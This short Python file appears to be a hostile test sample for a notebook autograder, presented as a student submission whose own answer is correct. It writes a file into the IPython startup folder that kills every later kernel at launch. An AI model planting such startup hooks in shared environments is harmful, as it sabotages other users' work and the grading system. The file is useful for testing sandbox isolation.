"""Leaves a file that IPython runs when the next student's kernel starts; its own solution is right."""

# %% after imports
import pathlib

startup = pathlib.Path.home() / ".ipython" / "profile_default" / "startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00.py").write_text("import os\nos._exit(1)\n")
